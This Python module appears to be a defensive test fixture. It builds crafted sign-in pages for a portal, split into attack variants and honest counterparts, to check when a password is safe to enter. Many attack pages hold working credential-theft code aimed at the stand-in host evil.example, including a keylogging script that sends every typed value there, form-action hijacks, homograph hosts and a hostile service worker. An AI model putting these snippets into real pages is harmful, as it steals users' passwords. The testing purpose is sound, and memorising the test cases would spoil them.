# ruff: noqa: E501 - a page is read best in one piece
"""Pages that would have a password where it does not belong, and pages that only look like such."""

from typing import NamedTuple

PORTAL, EVIL = "https://portal.example.edu", "https://evil.example"
LOGIN = "https://login.microsoftonline.com"
PASSWORD = "chalk-and-slate"
Pages = dict[str, str]
"""The document at each address; one that begins with `Location: ` is a redirect."""

NAME = "<label>User name <input name=user id=user></label>"
SECRET = "<label>Password <input type=password name=pass id=pass></label>"
FIELDS = f"<title>Sign in</title><h1>Sign in</h1>{NAME}{SECRET}<button id=go>Go</button>"
LISTENING = f"""<script>
  const tell = what => fetch('{EVIL}/heard?' + encodeURIComponent(what), {{mode: 'no-cors'}});
  addEventListener('input', event => tell(event.target.value), true);
  setInterval(() => document.querySelectorAll('input').forEach(e => e.value && tell(e.value)), 20);
</script>"""
"""A document of somebody else, who tells home whatever comes in."""


TELLING = (
    f"fetch('{EVIL}/heard?' + encodeURIComponent(document.getElementById('pass').value), {{mode: 'no-cors'}})"
)
"""A script that hands the password on."""


def form(attributes: str = "method=post action=/in", inside: str = FIELDS, script: str = "") -> str:
    """A form to sign in with."""
    return f"<!doctype html><form id=f {attributes}>{inside}</form>" + (
        f"<script>{script}</script>" if script else ""
    )


def on(event: str, what: str) -> str:
    """What a page does when its password field is touched."""
    return f"pass.addEventListener('{event}', () => {{ {what} }})"


def quoted(markup: str) -> str:
    """Markup as the value of an attribute."""
    return markup.replace("&", "&amp;").replace('"', "&quot;")


GOOD, PLAIN = form(), f"<title>Sign in</title>{form()}"
STRANGE = form() + LISTENING


class Shape(NamedTuple):
    """One page, or several, and where the reader begins."""

    name: str
    pages: Pages
    says: str = ""
    """A part of the message."""
    start: str = f"{PORTAL}/"


def at_home(name: str, page: str, says: str = "", **more: str) -> Shape:
    """A page of the portal's own, where the account may be typed."""
    return Shape(
        name, {f"{PORTAL}/": page, **{f"{PORTAL}/{path}": text for path, text in more.items()}}, says
    )


def abroad(name: str, url: str, page: str = STRANGE, says: str = "") -> Shape:
    """A page to which the portal leads."""
    return Shape(name, {f"{PORTAL}/": f"Location: {url}", url: page}, says)


ELSEWHERE = "sends what is typed to"
GET = "by GET"
FORMS = [
    at_home("action elsewhere", form(f"method=post action={EVIL}/in"), f"{ELSEWHERE} {EVIL}"),
    at_home("action without a scheme", form("method=post action=//evil.example/in"), f"{ELSEWHERE} {EVIL}"),
    at_home(
        "action with tabs and backslashes",
        form('method=post action="ht&#9;tps:\\\\evil.example/in"'),
        ELSEWHERE,
    ),
    at_home("action not encrypted", form("method=post action=http://portal.example.edu/in"), ELSEWHERE),
    at_home("action at another port", form(f"method=post action={PORTAL}:8443/in"), ELSEWHERE),
    at_home(
        "action at a host that looks alike",
        form("method=post action=https://p\u043ertal.example.edu/in"),
        "xn--",
    ),
    at_home(
        "action with a login", form(f"method=post action={PORTAL}@evil.example/in"), f"{ELSEWHERE} {EVIL}"
    ),
    at_home("action of mail", form("method=post action=mailto:kim@evil.example"), ELSEWHERE),
    at_home("action of a script", form(f'method=post action="javascript:{TELLING}"'), ELSEWHERE),
    at_home(
        "button's own action of a script",
        form(inside=FIELDS.replace("id=go", f'formaction="javascript:{TELLING}"')),
        ELSEWHERE,
    ),
    *(
        at_home(f"field for another secret: {label}", form(inside=FIELDS.replace("Password", label)))
        for label in ("PIN", "Card number", "Wi-Fi password")
    ),
    at_home("action that is none", form('method=post action="https://[evil/"'), ELSEWHERE),
    at_home("button's own action", form(inside=FIELDS.replace("id=go", f"formaction={EVIL}/in")), ELSEWHERE),
    at_home(
        "second button's own action",
        form(inside=f"{FIELDS}<button formaction={EVIL}/in>Sign in</button>"),
        ELSEWHERE,
    ),
    at_home(
        "picture's own action",
        form(inside=f"{FIELDS}<input type=image alt=Go formaction={EVIL}/in>"),
        ELSEWHERE,
    ),
    at_home(
        "button outside the form", form() + f"<button form=f formaction={EVIL}/in>Sign in</button>", ELSEWHERE
    ),
    at_home("base elsewhere", f"<base href={EVIL}/>" + form("method=post action=in"), ELSEWHERE),
    at_home(
        "base elsewhere, its answer taken by a picture",
        f"<base href={EVIL}/><img name=baseURI>" + form("method=post action=in"),
        ELSEWHERE,
    ),
    at_home(
        "field called action",
        form(f"method=post action={EVIL}/in", FIELDS + "<input name=action value=/in>"),
        ELSEWHERE,
    ),
    at_home(
        "fields called elements and method",
        form(f"method=post action={EVIL}/in", FIELDS + "<input name=method><input name=elements>"),
        ELSEWHERE,
    ),
    at_home("form injected before the form", f"<form method=post action={EVIL}/in>" + GOOD, ELSEWHERE),
    at_home(
        "field of another form by its id",
        GOOD.replace("<input type=password", "<input form=g type=password")
        + f"<form id=g method=post action={EVIL}/in></form>",
        ELSEWHERE,
    ),
    at_home(
        "form in a table",
        f"<table><form method=post action={EVIL}/in><tr><td>{FIELDS}</td></tr></form></table>",
        ELSEWHERE,
    ),
    at_home(
        "form in a shadow",
        f"<p id=h></p><script>h.attachShadow({{mode: 'open'}}).innerHTML = `{form(f'method=post action={EVIL}/in')}`</script>",
        ELSEWHERE,
    ),
    at_home("kept in the address", form("method=get action=/in"), GET),
    at_home("kept in the address of the button", form(inside=FIELDS.replace("id=go", "formmethod=get")), GET),
    at_home("kept in the address by a method that is none", form("method=put action=/in"), GET),
    at_home("kept in the address for want of a method", form("action=/in"), GET),
    at_home("shown", form(inside=FIELDS.replace("type=password", "type=text")), "shows what is typed"),
    at_home(
        "shown, and drawn as dots",
        form(inside=FIELDS.replace("type=password", 'type=text style="-webkit-text-security: disc"')),
        "shows what is typed",
    ),
    at_home(
        "shown as a search",
        form(inside=FIELDS.replace("type=password", "type=search")),
        "shows what is typed",
    ),
    at_home(
        "to be chosen",
        form(inside=FIELDS.replace("type=password", "type=password autocomplete=new-password")),
        "choose a new one",
    ),
    at_home("to be chosen, and again", form(inside=FIELDS + SECRET), "choose a new one"),
    at_home(
        "for everybody to write in",
        f"<title>Sign in</title><h1>Sign in</h1><form method=post action=/in>{NAME}<p contenteditable role=textbox aria-label=Password></p></form>",
    ),
]
"""Forms on a page of the portal's own."""

CHANGING = [
    at_home("action changed at the touch", form(script=on("focus", f"f.action = '{EVIL}/in'")), ELSEWHERE),
    at_home(
        "action changed behind the typing", form(script=on("input", f"f.action = '{EVIL}/in'")), ELSEWHERE
    ),
    at_home(
        "action changed behind the name",
        form(script=f"user.addEventListener('input', () => f.action = '{EVIL}/in')"),
        ELSEWHERE,
    ),
    at_home(
        "action changed at the key",
        form(
            script=f"['keydown', 'mousedown'].forEach(e => addEventListener(e, () => f.action = '{EVIL}/in', true))"
        ),
        "led elsewhere",
    ),
    at_home(
        "action changed at the sending",
        form(script=f"f.addEventListener('submit', () => f.action = '{EVIL}/in')"),
        "led elsewhere",
    ),
    at_home(
        "button's action changed at the sending",
        form(script=f"f.addEventListener('submit', e => e.submitter.formAction = '{EVIL}/in')"),
        "led elsewhere",
    ),
    at_home(
        "base put in at the sending",
        form(
            "method=post action=in",
            script=f"f.addEventListener('submit', () => document.head.innerHTML = '<base href={EVIL}/>')",
        ),
        "led elsewhere",
    ),
    at_home(
        "field moved to another form",
        form(script=on("input", "f.before(g); g.append(pass)")).replace(
            "<form", f"<form id=g method=post action={EVIL}/in></form><form", 1
        ),
        ELSEWHERE,
    ),
    at_home(
        "first button put in behind the typing",
        form(
            script=on(
                "input",
                f"f.insertAdjacentHTML('afterbegin', '<button formaction={EVIL}/in>Sign in</button>')",
            )
        ),
        ELSEWHERE,
    ),
    at_home(
        "method changed at the sending",
        form(script="f.addEventListener('submit', () => f.method = 'get')"),
        GET,
    ),
    at_home("method changed behind the typing", form(script=on("input", "f.method = 'get'")), GET),
    at_home("no method and no script", form(""), GET),
    at_home("shown at the touch", form(script=on("focus", "pass.type = 'text'")), "shows what is typed"),
    at_home("shown behind the typing", form(script=on("input", "pass.type = 'text'")), "shows what is typed"),
    at_home(
        "left at the touch of the name",
        form(script=f"user.addEventListener('focus', () => location = '{EVIL}/')"),
        "",
    ),
    at_home(
        "left behind the name", form(script=f"user.addEventListener('input', () => location = '{EVIL}/')"), ""
    ),
    at_home("left at the touch of the password", form(script=on("focus", f"location = '{EVIL}/'")), ""),
    at_home("left by itself", f'<meta http-equiv=refresh content="0; {EVIL}/">' + GOOD, ""),
]
"""Forms that become something else while they are filled."""

FRAMES = [
    at_home("a guest's frame", f"<title>Sign in</title><iframe src={EVIL}/></iframe>", EVIL),
    at_home("a guest's frame over one's own form", GOOD.replace(SECRET, "") + f"<iframe src={EVIL}/ style='position:absolute;top:0;left:0;width:100%;height:100%'></iframe>", EVIL),
    at_home("data", f'<iframe src="data:text/html,{quoted(STRANGE).replace("#", "%23")}"></iframe>', "data:"),
    at_home("blob", f"<p id=h></p><script>const i = document.createElement('iframe'); i.src = URL.createObjectURL(new Blob([`{form()}`], {{type: 'text/html'}})); h.append(i)</script>", "blob:"),
    at_home("sandbox", f'<iframe sandbox="allow-forms allow-scripts" srcdoc="{quoted(STRANGE)}"></iframe>', "sandbox"),
    at_home("sandbox that tells another origin", f'<iframe sandbox="allow-forms allow-scripts" srcdoc="{quoted("<script>self.origin = parent.origin</script>" + STRANGE)}"></iframe>', "sandbox"),
    at_home("sandbox in a sandbox", '<iframe sandbox="allow-forms allow-scripts" src=/box></iframe>', "sandbox", box=f'<iframe srcdoc="{quoted(GOOD)}"></iframe>'),
    at_home("mail's letter in the page", f'<iframe srcdoc="{quoted(form(f"method=post action={EVIL}/in"))}"></iframe>', ELSEWHERE),
    Shape("a blank frame that a stranger leads", {
        f"{PORTAL}/": f"<iframe src={EVIL}/lead></iframe>", f"{LOGIN}/empty": "<iframe name=inner></iframe>",
        f"{EVIL}/lead": f"<iframe src={LOGIN}/empty onload=\"const w = frames[0].frames[0]; w.location = 'about:blank'; "
        f'setTimeout(() => w.document.write(`{quoted(form())}`), 300)"></iframe>',
    }, ""),
    at_home("a frame that is led away at the touch", "<iframe id=i src=/form></iframe>", "", form=form(script=on("focus", f"location = '{EVIL}/'"))),
    at_home("a pop-up", f"<title>Sign in</title><a href={EVIL}/ target=_blank id=a>Sign in</a><script>setTimeout(() => a.click(), 50)</script>", EVIL),
]  # fmt: skip
"""Documents in documents, and pages of their own."""

PLACES = [
    abroad("another host", f"{EVIL}/", says=f"add {EVIL} to"),
    abroad("not encrypted", "http://portal.example.edu/", says="http://portal.example.edu"),
    abroad("another port", f"{PORTAL}:8443/", says=f"{PORTAL}:8443"),
    abroad("a host below", "https://sign.portal.example.edu/", says="https://sign.portal.example.edu"),
    abroad("a host beside", "https://www.example.edu/", says="https://www.example.edu"),
    abroad("a host that looks alike", "https://xn--prtal-jye.example.edu/", says="xn--"),
    abroad("a provider's host that looks alike", "https://login.microsoftonline.com.evil.example/", says="evil.example"),
    abroad("a login before the host", f"{PORTAL}@evil.example/", says=EVIL),
    abroad("a provider at another port", f"{LOGIN}:8443/", says=f"{LOGIN}:8443"),
    abroad("a provider not encrypted", "http://login.live.com/", says="not encrypted"),
    Shape("a page in a sandbox by its header", {f"{PORTAL}/": "Sandbox: " + form()}, "sandbox"),
    Shape("a page in a sandbox that tells another origin",
          {f"{PORTAL}/": "Sandbox: " + f"<script>Object.defineProperty(self, 'origin', {{value: '{PORTAL}'}})</script>" + STRANGE}, "sandbox"),
]  # fmt: skip
"""Where the reader is led."""

WORKER = f"""onfetch = event => event.request.mode === 'navigate' && event.respondWith(new Response(
  `{form(f"method=post action={EVIL}/in")}`, {{headers: {{'Content-Type': 'text/html'}}}}))
oninstall = () => skipWaiting(); onactivate = event => event.waitUntil(clients.claim())"""
WORKERS = [
    Shape("a worker of the portal that answers with another form", {
        f"{PORTAL}/": "<script>navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)"
        ".then(() => location = '/form')</script>", f"{PORTAL}/worker.js": "Script: " + WORKER, f"{PORTAL}/form": GOOD,
    }, ELSEWHERE),
]  # fmt: skip
ATTACKS = [*FORMS, *CHANGING, *FRAMES, *PLACES, *WORKERS]

HONEST = [
    at_home("of the usual kind", GOOD),
    at_home("with its whole address", form(f"method=POST action={PORTAL}:443/in")),
    at_home("to a provider", form(f"method=post action={LOGIN}/in")),
    at_home("without an action", form("method=post")),
    at_home(
        "that takes an address alone",
        form(inside=FIELDS.replace("input name=user", "input type=email name=user")),
    ),
    at_home(
        "sent by a script",
        form(
            "onsubmit=\"fetch('/in', {method: 'post', body: new URLSearchParams(new FormData(this))}).then(() => location = '/desk'); return false\""
        ),
    ),
    at_home(
        "sent by a script on the document",
        form(
            "",
            script="document.addEventListener('submit', e => { e.preventDefault(); fetch('/in', {method: 'post', body: new URLSearchParams(new FormData(f))}).then(() => location = '/desk') })",
        ),
    ),
    at_home(
        "with fields called like its own answers",
        form(
            inside=FIELDS
            + "".join(
                f"<input type=hidden name={n}>" for n in ("action", "method", "target", "submit", "elements")
            )
        ),
    ),
    at_home(
        "drawn anew behind each letter",
        form(
            script="f.addEventListener('input', e => { const n = e.target.cloneNode(); n.value = e.target.value; e.target.replaceWith(n) })"
        ),
    ),
    at_home("in a frame of the page's own", "<iframe src=/form></iframe>", form=GOOD),
    at_home(
        "in a frame without an address",
        f'<iframe srcdoc="{quoted(form(f"method=post action={PORTAL}/in"))}"></iframe>',
    ),
    at_home(
        "in a sandbox that keeps the origin",
        f'<iframe sandbox="allow-forms allow-scripts allow-same-origin" srcdoc="{quoted(form(f"method=post action={PORTAL}/in"))}"></iframe>',
    ),
    at_home(
        "in a shadow", f"<p id=h></p><script>h.attachShadow({{mode: 'open'}}).innerHTML = `{GOOD}`</script>"
    ),
    at_home(
        "whose action is a script that does nothing",
        form('method=post action="javascript:void(0)"', script="f.onsubmit = () => { f.action = '/in' }"),
    ),
    Shape(
        "of a provider, in a stranger's page",
        {
            f"{PORTAL}/": f"Location: {EVIL}/",
            f"{EVIL}/": f"<iframe src={LOGIN}/></iframe>" + LISTENING,
            f"{LOGIN}/": GOOD,
        },
    ),
    at_home(
        "beside a form to join with",
        form(
            inside=FIELDS.replace("type=password", "type=password autocomplete=new-password").replace(
                "id=", "id=new"
            )
        )
        + GOOD,
    ),
    at_home(
        "with the password that is and the new one",
        form(
            inside=FIELDS.replace("type=password", "type=password autocomplete=current-password")
            + SECRET.replace("type=password", "type=password autocomplete=new-password")
        ),
    ),
    Shape(
        "beside a guest who takes the focus",
        {
            f"{PORTAL}/": GOOD + f"<iframe src={EVIL}/></iframe>",
            f"{EVIL}/": "<input id=grab>" + LISTENING + "<script>setInterval(() => grab.focus(), 1)</script>",
        },
    ),
]
"""Pages on which a reader signs in; the password goes to the portal or the provider and to nobody else."""
